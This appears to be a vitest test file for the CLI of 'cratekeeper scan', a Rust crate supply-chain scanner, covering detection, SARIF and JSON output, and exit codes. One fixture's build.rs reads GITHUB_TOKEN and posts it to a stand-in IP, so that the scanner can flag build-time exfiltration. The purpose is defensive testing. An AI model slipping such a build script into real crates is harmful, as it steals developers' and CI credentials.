import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { writeCrateArchive } from '../../formats/crate-archive.js';
import { manifest } from '../../../test/fixtures/scanner/crates.js';
import { collectInputs, registerScanCommands } from './scan.js';

const tmp = mkdtempSync(join(tmpdir(), 'ck-scan-cli-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

beforeAll(async () => {
  mkdirSync(join(tmp, 'crates/nested'), { recursive: true });
  writeFileSync(
    join(tmp, 'crates/payload-0.1.0.crate'),
    await writeCrateArchive('payload-0.1.0', [
      { path: 'Cargo.toml', data: manifest('payload', { package: 'build = "build.rs"\n' }) },
      {
        path: 'build.rs',
        data: 'fn main() { let t = std::env::var("GITHUB_TOKEN").unwrap_or_default(); let _ = ureq::post("https://198.51.100.5/c").send_string(&t); }',
      },
    ]),
  );
  writeFileSync(
    join(tmp, 'crates/nested/wrapper-0.2.0.crate'),
    await writeCrateArchive('wrapper-0.2.0', [
      {
        path: 'Cargo.toml',
        data: manifest('wrapper', { version: '0.2.0', extra: '[dependencies]\npayload = "0.1"\n' }),
      },
      { path: 'src/lib.rs', data: 'pub use payload::*;' },
    ]),
  );
  mkdirSync(join(tmp, 'src-crate/src'), { recursive: true });
  writeFileSync(join(tmp, 'src-crate/Cargo.toml'), manifest('plain'));
  writeFileSync(join(tmp, 'src-crate/src/lib.rs'), 'pub fn add(a: u8, b: u8) -> u8 { a + b }');
  writeFileSync(join(tmp, 'broken.crate'), 'not gzip');
});

async function run(...args: string[]): Promise<{ out: string; err: string; code: number }> {
  let out = '';
  let err = '';
  const o = vi.spyOn(process.stdout, 'write').mockImplementation((s) => ((out += String(s)), true));
  const e = vi.spyOn(process.stderr, 'write').mockImplementation((s) => ((err += String(s)), true));
  process.exitCode = 0;
  try {
    const program = new Command().exitOverride();
    registerScanCommands(program);
    await program.parseAsync(['node', 'cratekeeper', 'scan', ...args]);
  } finally {
    o.mockRestore();
    e.mockRestore();
  }
  const code = Number(process.exitCode ?? 0);
  process.exitCode = 0;
  return { out, err, code };
}
afterEach(() => {
  process.exitCode = 0;
});

describe('cratekeeper scan', () => {
  it('finds .crate files and crate directories under the given paths', async () => {
    const inputs = await collectInputs([join(tmp, 'crates'), join(tmp, 'src-crate')]);
    expect(inputs.map((i) => [i.kind, i.path.slice(tmp.length)])).toEqual([
      ['crate', '/crates/nested/wrapper-0.2.0.crate'],
      ['crate', '/crates/payload-0.1.0.crate'],
      ['dir', '/src-crate'],
    ]);
    await expect(collectInputs([join(tmp, 'nope')])).rejects.toThrow(/no such file/);
  });

  it('prints crates worst first with file:line and evidence, and gates with --fail-on', async () => {
    const r = await run(join(tmp, 'crates'), join(tmp, 'src-crate'), '--fail-on', 'high', '--workers', '2');
    expect(r.code).toBe(1);
    const lines = r.out.split('\n');
    expect(lines[0]).toMatch(/^CRITICAL payload 0\.1\.0/);
    expect(r.out).toContain('build.exfiltration  build.rs:1 [build-script]');
    // Scanned together: the wrapper is flagged through its dependency.
    expect(r.out).toMatch(/CRITICAL wrapper 0\.2\.0[\s\S]*together\.flagged-dependency/);
    expect(r.out).toMatch(/CLEAN +plain 0\.1\.0/);
    expect(r.out).toContain('3 crates scanned: 2 critical, 1 clean');
  });

  it('without --fail-on exits 0; --no-together leaves the wrapper alone', async () => {
    const r = await run(join(tmp, 'crates'), '--no-together', '--json');
    expect(r.code).toBe(0);
    const json = JSON.parse(r.out) as {
      reports: { crate: { name: string }; verdict: string }[];
      errors: unknown[];
    };
    expect(Object.fromEntries(json.reports.map((x) => [x.crate.name, x.verdict]))).toEqual({
      payload: 'critical',
      wrapper: 'clean',
    });
    expect(json.errors).toEqual([]);
  });

  it('writes SARIF', async () => {
    const r = await run(join(tmp, 'crates/payload-0.1.0.crate'), '--sarif', '--fail-on', 'critical');
    expect(r.code).toBe(1);
    const log = JSON.parse(r.out);
    expect(log.version).toBe('2.1.0');
    const res = log.runs[0].results.find((x: { ruleId: string }) => x.ruleId === 'build.exfiltration');
    expect(res.level).toBe('error');
    expect(res.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'payload-0.1.0/build.rs' },
      region: { startLine: 1 },
    });
    expect(log.runs[0].tool.driver.rules.length).toBeGreaterThan(40);
  });

  it('reports unreadable inputs and bad arguments with exit code 2', async () => {
    const broken = await run(join(tmp, 'broken.crate'), join(tmp, 'src-crate'));
    expect(broken.code).toBe(2);
    expect(broken.err).toContain('broken.crate');
    expect(broken.out).toContain('1 crate scanned');
    expect((await run(join(tmp, 'src-crate'), '--fail-on', 'severe')).code).toBe(2);
    expect((await run(join(tmp, 'src-crate'), '--json', '--sarif')).code).toBe(2);
    expect((await run(join(tmp, 'src-crate'), '--workers', '0')).code).toBe(2);
    expect((await run(join(tmp, 'empty-nothing'))).err).toContain('no such file');
  });

  it('--detonate without bwrap, strace or cargo on the machine exits 2 naming what is missing', async () => {
    vi.stubEnv('PATH', join(tmp, 'no-bin'));
    vi.stubEnv('HOME', join(tmp, 'no-home'));
    try {
      const r = await run(join(tmp, 'src-crate'), '--detonate');
      expect(r.code).toBe(2);
      expect(r.err).toMatch(/^error: the sandboxed build needs cargo, bwrap and strace: /);
      expect(r.err).toContain('apt-get install -y bubblewrap');
      expect(r.err).toContain('apt-get install -y strace');
      expect(r.err).toContain('no Rust toolchain');
      expect(r.out).toBe('');
    } finally {
      vi.unstubAllEnvs();
    }
  });

  it('checks the --detonate options before anything runs', async () => {
    expect((await run(join(tmp, 'src-crate'), '--detonate', '--detonate-timeout', '0')).err).toContain(
      '--detonate-timeout',
    );
    expect((await run(join(tmp, 'src-crate'), '--detonate', '--vendor', join(tmp, 'nowhere'))).code).toBe(2);
  });
});
